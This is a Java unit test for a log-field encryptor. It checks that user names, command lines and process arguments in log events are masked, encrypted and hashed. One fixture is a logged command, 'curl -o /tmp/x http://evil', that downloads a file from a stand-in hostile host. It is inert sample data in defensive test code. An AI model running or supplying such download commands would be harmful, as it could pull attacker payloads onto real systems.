package io.vigil.job.protect;

import static org.assertj.core.api.Assertions.assertThat;

import io.vigil.common.LogEvent;
import io.vigil.common.protect.FieldCipher;
import io.vigil.common.protect.FieldKeys;
import io.vigil.common.protect.KeyedHash;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class FieldEncryptorTest {
    private static FieldKeys keys;

    @BeforeAll
    static void keys(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("keys");
        FieldKeys.generate(file);
        keys = FieldKeys.load(file);
    }

    private static FieldEncryptor encryptor() {
        return new FieldEncryptor(
                List.of("user.name", "process.command_line"), new FieldCipher(keys), new KeyedHash(keys));
    }

    /** An event as a parser leaves it: the line as its message, and the fields found in it. */
    private static LogEvent event(String message, Map<String, Object> fields) {
        LogEvent e = new LogEvent();
        e.message = message;
        e.fields.putAll(fields);
        return e;
    }

    @Test
    void theClearValueLeavesTheEventAndCanBeRecovered() {
        LogEvent e = event(
                "Failed password for al from 10.0.0.5 port 22 ssh2 (alpha al)",
                Map.of("user.name", "al", "source.ip", "10.0.0.5", "extra", "{\"login\":\"al\"}"));

        encryptor().encrypt(e);

        assertThat(e.fields).doesNotContainKey("user.name").containsEntry("source.ip", "10.0.0.5");
        assertThat(e.message)
                .isEqualTo("Failed password for «user.name» from 10.0.0.5 port 22 ssh2 (alpha «user.name»)");
        assertThat(e.fields.get("extra")).isEqualTo("{\"login\":\"«user.name»\"}");
        assertThat(e.fields.get("protected.hash.user.name"))
                .isEqualTo(new KeyedHash(keys).of(KeyedHash.FIELD_VALUES, "al"));
        assertThat(new FieldCipher(keys).decrypt("user.name", (String) e.fields.get("protected.cipher.user.name")))
                .isEqualTo("al");
    }

    @Test
    void aLongerValueContainingAShorterOneIsMarkedWhole() {
        LogEvent e = event(
                "sudo: bob : COMMAND=/usr/bin/cat /home/bob/notes",
                Map.of("user.name", "bob", "process.command_line", "/usr/bin/cat /home/bob/notes"));

        encryptor().encrypt(e);

        assertThat(e.message).isEqualTo("sudo: «user.name» : COMMAND=«process.command_line»");
        assertThat(new FieldCipher(keys).decrypt("process.command_line", (String)
                        e.fields.get("protected.cipher.process.command_line")))
                .isEqualTo("/usr/bin/cat /home/bob/notes");
    }

    @Test
    void listFieldsAreProtectedElementByElement() {
        LogEvent e = event(
                "execve: curl -o /tmp/x http://evil",
                Map.of("process.args", List.of("curl", "-o", "/tmp/x", "http://evil")));
        FieldEncryptor encryptor =
                new FieldEncryptor(List.of("process.args"), new FieldCipher(keys), new KeyedHash(keys));

        encryptor.encrypt(e);

        assertThat(e.fields).doesNotContainKey("process.args");
        assertThat(e.message)
                .isEqualTo("execve: «process.args[0]» «process.args[1]» «process.args[2]» «process.args[3]»");
        @SuppressWarnings("unchecked")
        List<String> ciphers = (List<String>) e.fields.get("protected.cipher.process.args");
        assertThat(new FieldCipher(keys).decrypt("process.args", ciphers.get(2)))
                .isEqualTo("/tmp/x");
        @SuppressWarnings("unchecked")
        List<String> hashes = (List<String>) e.fields.get("protected.hash.process.args");
        assertThat(hashes).hasSize(4).contains(new KeyedHash(keys).of(KeyedHash.FIELD_VALUES, "curl"));
    }

    @Test
    void eventsWithoutTheFieldsAreUntouched() {
        LogEvent e = event("cpu 93%", Map.of("user.name", 42L));

        encryptor().encrypt(e);

        assertThat(e.message).isEqualTo("cpu 93%");
        assertThat(e.fields).containsOnlyKeys("user.name");
    }
}
